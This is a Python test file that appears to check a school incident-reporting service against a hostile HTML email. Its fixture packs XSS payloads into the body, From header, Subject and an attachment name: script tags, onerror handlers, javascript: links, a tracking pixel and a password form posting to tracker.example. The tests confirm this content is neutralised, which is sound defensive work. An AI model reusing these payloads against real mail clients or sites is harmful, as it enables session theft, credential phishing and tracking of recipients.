"""A hostile HTML mail all the way: never shown raw, on no page and in no mail, and nothing remote is ever loaded."""

import socket
from collections.abc import Sequence
from dataclasses import dataclass, field
from email.message import EmailMessage

import pytest

from intake.delivery import Delivery
from intake.limits import Limits
from intake.message import Arrival
from replies.outbox import Outbox
from tests.builders import a_value, some_facts
from tests.intake.fakes import WorkersHere
from tests.replies.page import Page
from tests.service import Stage, a_stage
from tests.web.stage import a_web_stage
from tests.web.test_hostile_pages import is_harmless
from tests.web.test_sign_in_post import IDENTITY

LURE = "The trip list of Year 5 went to the wrong parent"
REMOTE = "tracker.example"
MARKUP = f"""<!DOCTYPE html><html><head><base href="https://{REMOTE}/">
<meta http-equiv="refresh" content="0;url=//{REMOTE}">
<link rel="stylesheet" href="https://{REMOTE}/s.css"><style>@import url(https://{REMOTE}/i.css);
body{{background:url(https://{REMOTE}/b.png)}}</style><script src="https://{REMOTE}/x.js">steal()</script></head>
<body onload="steal()" background="https://{REMOTE}/body.png"><!--[if mso]><img src="https://{REMOTE}/m.png"><![endif]-->
<p style="background-image:url('https://{REMOTE}/p.png')">{LURE}</p>
<img src="https://{REMOTE}/pixel.gif?id=dpo" width=1>
<img src=x onerror=steal()><svg onload=steal()><image href="https://{REMOTE}/v.svg"/></svg>
<iframe src="https://{REMOTE}/f"></iframe><object data="https://{REMOTE}/o"></object><embed src="https://{REMOTE}/e">
<video poster="https://{REMOTE}/v.jpg"><source src="https://{REMOTE}/v.mp4"></video><form action="https://{REMOTE}/take">
<input name=password><button formaction="https://{REMOTE}/b">Sign in</button></form>
<a href="javascript:steal()">click</a><a href="data:text/html,<script>steal()</script>">data</a>
<a href="https://{REMOTE}/login">https://candour.saint-finnian.example</a>
&lt;script&gt;steal()&lt;/script&gt; {{{{ 7*7 }}}} <plaintext>"""


@dataclass
class Sent:
    """The mail server: keeps what it is handed."""

    mails: list[EmailMessage] = field(default_factory=list)

    def send(self, message: EmailMessage, recipients: Sequence[str]) -> None:
        assert recipients
        self.mails.append(message)

    def close(self) -> None:
        """There is no connection to end."""


@pytest.fixture
def alone(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let nothing reach any other machine, not even its name be asked for."""

    def refused(*arguments: object, **keywords: object) -> None:
        raise AssertionError(f"something remote was looked for: {arguments} {keywords}")

    monkeypatch.setattr(socket.socket, "connect", refused)
    monkeypatch.setattr(socket, "getaddrinfo", refused)


def the_mail() -> bytes:
    mail = EmailMessage()
    mail["From"] = '"<img src=x onerror=steal()>" <seren@post.example>'
    mail["To"], mail["Subject"] = "dataloss@saint-finnian.example", f"<script src=//{REMOTE}/s.js></script> trip list"
    mail["Message-ID"] = "<evil-1@post.example>"
    mail.set_content(MARKUP, subtype="html")
    mail.add_attachment(MARKUP.encode(), maintype="text", subtype="html", filename="<img src=x onerror=steal()>.html")
    return mail.as_bytes()


def received() -> tuple[Stage, str]:
    stage = a_stage()
    stage.reader.usual = some_facts(summary=a_value(MARKUP, MARKUP), line_manager=a_value(MARKUP))  # read word for word
    delivery = Delivery(
        store=stage.store,
        workers=WorkersHere(),
        receive=stage.service.receive,
        limits=Limits(),
        now=stage.clock,
    )
    taken = delivery.take(the_mail(), Arrival(mailbox="dataloss", school="st-finnian", received_at=stage.clock()))
    return stage, taken.receipt.reference or ""


@pytest.mark.usefixtures("alone")
def test_the_page_of_its_case_shows_the_words_alone_and_leads_nowhere_else() -> None:
    stage, reference = received()
    browser = a_web_stage(stage).signed_in()
    for path in ("/", "/register", f"/cases/{reference}"):
        answer = browser.get(path)
        assert answer.status_code == 200
        assert is_harmless(answer.text)
        assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
        assert "img-src 'self'" in answer.headers["Content-Security-Policy"]
    page = browser.get(f"/cases/{reference}").text
    written = page.partition('<h2 id="messages">')[2].partition("</section>")[0]
    assert LURE in written
    assert f"{REMOTE}/pixel.gif" not in written
    assert "steal()&lt;/script&gt; {{ 7*7 }}" in written  # what was typed as text is shown as text


@pytest.mark.usefixtures("alone")
def test_its_files_are_saved_and_never_shown_as_a_page() -> None:
    stage, reference = received()
    browser = a_web_stage(stage).signed_in()
    page = browser.get(f"/cases/{reference}").text
    token = page.partition('name="csrf" value="')[2].partition('"')[0]
    digests = {item.digest for item in stage.store.load(reference).evidence}
    assert len(digests) == 2
    for digest in digests:
        answer = browser.post(f"/cases/{reference}/evidence/{digest}", data={"csrf": token})
        assert answer.status_code == 200
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert answer.headers["Content-Type"] == "application/octet-stream"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.usefixtures("alone")
def test_no_mail_about_it_has_an_element_address_or_style_of_its_own() -> None:
    stage, _ = received()
    sent = Sent()
    Outbox(stage.service, sent, directory=stage.directory, identity=IDENTITY, now=stage.clock).deliver_due()
    assert len(sent.mails) == 3
    quoting = 0
    for mail in sent.mails:
        part = mail.get_body(preferencelist=("html",))
        assert part is not None
        markup = part.get_content()
        page = Page(markup)
        assert page.faults == []
        for name, attributes in page.elements:
            assert name not in {
                "script",
                "img",
                "iframe",
                "svg",
                "object",
                "embed",
                "form",
                "link",
                "base",
                "video",
                "a",
            }
            assert not any(key.startswith("on") or key in {"src", "href", "background", "action"} for key in attributes)
            assert "url(" not in str(attributes.get("style"))
        quoting += LURE in page.text
        assert REMOTE not in str(mail["Subject"])
    assert quoting
